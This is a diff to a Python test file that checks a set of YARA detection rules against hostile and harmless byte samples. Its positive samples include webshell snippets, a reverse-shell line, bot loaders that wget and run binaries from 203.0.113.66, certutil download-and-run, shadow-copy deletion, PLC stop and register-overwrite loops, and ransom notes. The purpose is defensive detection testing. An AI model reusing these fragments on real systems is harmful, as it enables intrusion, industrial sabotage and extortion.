@@ -1,13 +1,18 @@
+# ruff: noqa: E501 - one sample a line
 """Our YARA rules on samples put together here; none of them does anything, and none is stored as a file of the repository."""
 
 from __future__ import annotations
 
 import base64
+import io
 import re
+import zipfile
 from pathlib import Path
 
 import pytest
 import yara
+
+from detectors.rule_lint import known_attack_tags
 
 RULES = sorted((Path(__file__).resolve().parents[2] / "rules" / "yara").glob("*.yar"))
 LINK = bytes.fromhex("4c0000000114020000000000c000000000000046")
@@ -21,9 +26,36 @@ LOADER = b"<%! class U extends Class" + b'Loader{} %><% Cipher c = Cipher.getIns
 PYTHON = b"s=socket.socket(2);os.dup2" + b"(s.fileno(),0);import pty;pty.spawn('/bin/sh');os.system('x')"
 APPLICATION = b"<hta:application/><script>new ActiveXObject('WScript." + b"Shell').Run('calc');</script>"
 
+ELF, PE = b"\x7fELF\x02\x01\x01" + bytes(57), b"MZ" + bytes(62)
+
 
 def utf16(text: str) -> bytes:
     return text.encode("utf-16-le")
+
+
+def zipped(*names: str) -> bytes:
+    """A ZIP archive of small files with these names."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name in names:
+            archive.writestr(name, b"x")
+    return buffer.getvalue()
+
+
+def hive(path: str, content: bytes = b"") -> bytes:
+    """Head of a registry hive: mark, 44 bytes of counters, and the end of its path in UTF-16."""
+    return b"regf" + bytes(44) + utf16(path).ljust(64, b"\0") + bytes(400) + content
+
+
+def beacon(key: int) -> bytes:
+    """The first three settings of a beacon under a one-byte key."""
+    block = bytes.fromhex("00010001000200000002000100020bb80003000200040000ea60")
+    return PE + bytes(200) + bytes(byte ^ key for byte in block) + bytes(99)
+
+
+def table(name: str) -> bytes:
+    """Head of an ESE database that has the tables of a directory."""
+    return bytes(4) + bytes.fromhex("efcdab89") + bytes(600) + b"sd_" + b"table\0link_" + b"table\0" + utf16(name)
 
 
 POSITIVE: list[tuple[str, bytes]] = [
@@ -49,6 +81,39 @@ POSITIVE: list[tuple[str, bytes]] = [
     ("ransom_note", b"All your files have been encrypted! Send 0.5 Bitcoin and write to help-you-now@proton" + b"mail.com"),
     ("ransom_note", "您的文件已被加密，支付比特币后联系 restore@tutanota" .encode() + b".com"),
     ("ransom_note", "您的全部数据被加密，请用比特币付款，联系 restore@onionmail".encode("gb18030") + b".org"),
+    ("webshell_php_encrypted_body", f"{PHP}$d=file_get_contents('php://" .encode() + b"input');$x=openssl_" + b"decrypt($d,'AES128',$k);ev" + b"al($x);"),
+    ("webshell_php_encrypted_body", f"{PHP}$_SESSION['k']=1; $c=$_{'POST'}['p']; $c[$i]^$k[$i+1&15]; ev{'al'}($c);".encode()),
+    ("webshell_php_function_from_request", f"{PHP}$_{'GET'}['f']($_{'POST'}['a']);".encode()),
+    ("webshell_php_function_from_request", f"{PHP}array_{'map'}($_{'REQUEST'}['f'], array($x));".encode()),
+    ("webshell_aspx_runs_request", b'<%@ Page Language="Jscript"%><%ev' + b'al(Request.Item["z"],"unsafe");%>'),
+    ("webshell_aspx_runs_request", b"<%ex" + b'ecute(Request("c"))%>'),
+    ("webshell_aspx_runs_request", b'<%@ Page %><% var p=new Process' + b'StartInfo(Request.Form["c"]); Response.Write(p.StandardOutput); %>'),
+    ("webshell_aspx_loads_encrypted_assembly", b"<%@ Page %><% new Rijndael" + b"Managed(); Request.Binary" + b"Read(9); Assembly" + b".Load(x); %>"),
+    ("memory_shell_registration", b"StandardContext c; f.setAccessible(true); c.addFilterMap" + b"Before(m); Runtime.getRuntime().ex" + b"ec(q);"),
+    ("device_bot_binary", ELF + b"/bin/busy" + b"box \0/dev/watch" + b"dog\0/proc/net/" + b"tcp\0\0enable\0system\0shell\0\0vizxv\0"),
+    ("device_bot_binary", ELF + b"/bin/busy" + b"box X\0/ctrlt/DeviceUp" + b"grade_1\0/picsdesc" + b".xml\0/GponForm/diag_" + b"Form\0"),
+    ("device_bot_loader", b"cd /tmp || cd /var/run; " + b"".join(b"wget http://203.0.113.66/%s; chmod 777 %s; ./%s\n" % (a, a, a) for a in (b"arm7", b"mips", b"x86", b"sh4"))),
+    ("controller_stop_tool", b"import snap7\nfor h in ipaddress.ip_network('10.60.0.0/24'):\n c.plc_" + b"stop()\n"),
+    ("controller_stop_tool", b"from pymodbus.client import X\nfor ip in range(1, 254): c.write_" + b"registers(0, [65535] * 100)\n"),
+    ("engineering_archive_with_program", zipped("pump/pump.ap17", "pump/IM/readme.exe")),
+    ("tunnel_configuration", b'serverAddr = "203.0.113.66"\nserverPort = 7000\n[[proxies]]\nremotePort = 6000\n'),
+    ("tunnel_configuration", b"[common]\nserver_addr=203.0.113.66:8024\nvkey=abcdef\n"),
+    ("tunnel_program", ELF + b"github.com/fatedier/" + b"frp/client\0" + b"github.com/fatedier/" + b"frp/pkg\0" + (b"github.com/fatedier/" + b"frp/server\0") * 3),
+    ("beacon_configuration", beacon(0x2E)),
+    ("beacon_configuration", beacon(0x69)),
+    ("beacon_configuration", beacon(0)),
+    ("packed_elf", ELF + bytes(60) + b"UP" + b"X!" + bytes(900)),
+    ("script_carries_program", b"#!/bin/sh\necho f0V" + b"MRgIBAQ | base64 -d > /tmp/.x; chmod +x /tmp/.x; /tmp/.x"),
+    ("script_carries_program", b"$b=[Convert]::FromBase64" + b"String('TVqQAA" + b"M" * 70 + b"'); [Reflection.Assembly]::Lo" + b"ad($b); [IO.File]::WriteAllBytes($p,$b)"),
+    ("program_destroys_backups", PE + b"vssadmin.exe delete " + b"shadows /all\0" + utf16("bcdedit /set {default} recovery" + "enabled no")),
+    ("memory_of_lsass", b"MDMP" + bytes(600) + utf16("C:\\Windows\\System32\\ls" + "ass.exe") + utf16("ls" + "asrv.dll")),
+    ("copy_of_password_store", hive("\\SystemRoot\\System32\\Config\\SAM")),
+    ("copy_of_password_store", table("ntds.dit")),
+    ("archive_with_double_extension", zipped("通知/2026年工资调整.pdf.exe")),
+    ("archive_with_double_extension", zipped("offer.docx" + " " * 40 + ".scr")),
+    ("name_written_backwards", zipped("report\u202efdp.exe")),
+    ("script_lure_fetches_code", b"var x=new ActiveXObject('MSXML2.XML" + b"HTTP');var s=new ActiveXObject('ADODB.Str" + b"eam');s.SaveToFile ('a.exe');w.Run('a.exe')"),
+    ("script_lure_fetches_code", b"@echo off\ncertutil -url" + b"cache -f http://203.0.113.66/a a.exe & a.exe"),
 ]  # fmt: skip
 
 NEGATIVE: list[tuple[str, bytes]] = [
@@ -67,6 +132,34 @@ NEGATIVE: list[tuple[str, bytes]] = [
     ("document_macro_fetches_program", OLE + b"Sub Total()\x00Range(\"A1\")\x00"),
     ("ransom_note", b"Backups are encrypted with AES-256. Questions: helpdesk@lanting.example"),
     ("ransom_note", "数据已加密存储，咨询电话 12345".encode()),
+    ("webshell_php_encrypted_body", f"{PHP}$d=file_get_contents('php://input'); $x=json_decode($d);".encode()),
+    ("webshell_php_encrypted_body", f"{PHP}$x=openssl_decrypt($stored,'AES128',$k); echo $x;".encode()),
+    ("webshell_php_function_from_request", f"{PHP}array_map('intval', $_GET['ids']);".encode()),
+    ("webshell_aspx_runs_request", b'<%@ Page Language="C#"%><% Response.Write(Server.HtmlEncode(Request["q"])); %>'),
+    ("webshell_aspx_loads_encrypted_assembly", b'<%@ Page %><% var a=new AesManaged(); var b=Request["id"]; %>'),
+    ("memory_shell_registration", b"StandardContext c; c.addFilterDef(d); c.addFilterMapBefore(m);"),
+    ("device_bot_binary", ELF + b"/bin/busybox --install\0/dev/watchdog\0/proc/net/tcp\0"),
+    ("device_bot_loader", b"#!/bin/sh\nset -e\nwget https://go.example/go.linux-arm64.tar.gz\nchmod +x go\n"),
+    ("controller_stop_tool", b"import snap7\nc = snap7.client.Client()\nprint(c.get_cpu_state())\n"),
+    ("controller_stop_tool", b"from pymodbus.client import X\nfor ip in range(1, 254): print(c.read_holding_registers(0, 10))\n"),
+    ("engineering_archive_with_program", zipped("pump/pump.ap17", "pump/IM/readme.txt")),
+    ("engineering_archive_with_program", zipped("setup/setup.exe", "setup/readme.txt")),
+    ("tunnel_configuration", b"server_addr=10.31.0.12:8024\nname=exporter\n"),
+    ("tunnel_configuration", b'serverAddr = "10.31.0.12"\nserverPort = 443\n'),
+    ("tunnel_program", ELF + b"github.com/prometheus/client_golang\0" * 9),
+    ("tunnel_program", b"See github.com/fatedier/frp/client " * 9),
+    ("beacon_configuration", PE + bytes(4000)),
+    ("packed_elf", ELF + bytes(4000) + b"UPX!"),
+    ("script_carries_program", b"#!/bin/sh\necho aGVsbG8= | base64 -d > /tmp/hello; chmod +x /tmp/hello"),
+    ("program_destroys_backups", PE + b"vssadmin.exe list shadows\0net stop mysql\0"),
+    ("memory_of_lsass", b"MDMP" + bytes(600) + utf16("C:\\Program Files\\Editor\\editor.exe")),
+    ("copy_of_password_store", hive("\\??\\C:\\Users\\li.na\\ntuser.dat")),
+    ("copy_of_password_store", bytes(4) + bytes.fromhex("efcdab89") + bytes(600) + utf16("WebCacheV01.dat")),
+    ("archive_with_double_extension", zipped("通知/2026年工资调整.pdf", "setup.exe")),
+    ("archive_with_double_extension", zipped("lib/jquery.min.js", "notes.v2.txt")),
+    ("name_written_backwards", zipped("report-fdp.exe")),
+    ("script_lure_fetches_code", b"var x=new XMLHttpRequest(); x.open('GET','/api'); x.send();"),
+    ("script_lure_fetches_code", b"certutil -hashfile a.exe SHA256"),
 ]  # fmt: skip
 
 
@@ -87,11 +180,14 @@ def test_rule_leaves_the_harmless_neighbour_alone(compiled: yara.Rules, rule: st
 
 def test_every_rule_has_both_kinds_of_samples_and_its_facts(compiled: yara.Rules) -> None:
     names = {rule.identifier for rule in compiled}
-    assert len(names) >= 6
+    assert len(names) >= 24
     assert {rule for rule, _ in POSITIVE} == names
     assert {rule for rule, _ in NEGATIVE} == names - {"liandun_demo_file"}
     for rule in compiled:
-        assert {"id", "description", "author", "date", "level"} <= set(rule.meta), rule.identifier
+        assert {"id", "description", "description_zh", "author", "date", "level"} <= set(rule.meta), rule.identifier
+        techniques = [word.strip().lower() for word in str(rule.meta.get("attack", "")).split(",") if word.strip()]
+        assert set(techniques) <= known_attack_tags(), rule.identifier
+    assert len({rule.meta["id"] for rule in compiled}) == len(names)
 
 
 def test_the_product_itself_is_clean(compiled: yara.Rules) -> None:
